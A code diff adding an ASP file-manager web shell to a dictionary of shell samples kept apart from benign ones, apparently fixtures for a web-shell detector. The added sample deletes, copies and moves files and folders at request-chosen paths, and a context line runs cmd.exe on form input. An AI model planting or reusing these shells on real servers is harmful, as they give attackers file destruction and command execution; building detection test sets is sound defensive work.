@@ -332,6 +332,16 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
         b'a.ShellExecute "cmd.exe", "/c " & Request.Form("c"), "", "open", 0 %>',
         "Shell.Application ShellExecute",
     ),
+    "asp_file_manager": (
+        "fm.asp",
+        b'<% Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
+        b'p = Request("p") : t = Request("to")\n'
+        b'Select Case Request("a")\n'
+        b' Case "rm": fs.DeleteFile p\n Case "cp": fs.CopyFile p, t\n Case "mv": fs.MoveFile p, t\n'
+        b' Case "md": fs.CreateFolder p\n Case "rd": fs.DeleteFolder p\n'
+        b' Case "cpd": fs.CopyFolder p, t\nEnd Select %>',
+        "file manager: 6 file operations on request-chosen paths",
+    ),
 }
 
 BENIGN: dict[str, tuple[str, bytes]] = {
